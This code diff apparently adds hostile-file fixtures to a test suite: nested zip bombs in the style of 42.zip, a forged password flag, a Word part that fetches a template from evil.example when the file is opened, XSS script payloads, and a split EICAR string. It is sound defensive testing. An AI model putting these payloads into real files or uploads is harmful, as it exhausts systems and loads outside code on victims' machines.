@@ -86,12 +86,30 @@ def link(name: str) -> zipfile.ZipInfo:
     return info
 
 
-def nested(levels: int) -> bytes:
+def nested(levels: int, inner: bytes = b"the end") -> bytes:
     """Archives in archives."""
-    inner = b"the end"
     for _n in range(levels):
         inner = archive([("inner.zip", inner)])
     return inner
+
+
+def many(levels: int) -> bytes:
+    """Sixteen archives in each archive, as 42.zip has them."""
+    inner = bytes(4096)
+    for _n in range(levels):
+        inner = archive((f"{n}.zip", inner) for n in range(16))
+    return inner
+
+
+def locked(data: bytes) -> bytes:
+    """The archive with the mark of a password on each of its parts."""
+    found = bytearray(data)
+    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = found.find(sign)
+        while at >= 0:
+            found[at + place] |= 1
+            at = found.find(sign, at + 4)
+    return bytes(found)
 
 
 def twice() -> bytes:
@@ -106,4 +124,11 @@ def html(text: str = "<script>alert(1)</script>") -> bytes:
 
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 EXE = b"MZ\x90\x00\x03" + bytes(200)
-BOMB = bytes(30 * 1024 * 1024)
+ZEROS_200_MB = bytes(200 * 1024 * 1024)
+REMOTE = (
+    "word/_rels/settings.xml.rels",
+    b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
+)
+"""A part that fetches a template from elsewhere when the file is opened."""
+EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + "$H+H*").encode()
+"""The harmless text every scanner calls a virus; in pieces, so that none finds it in this file."""
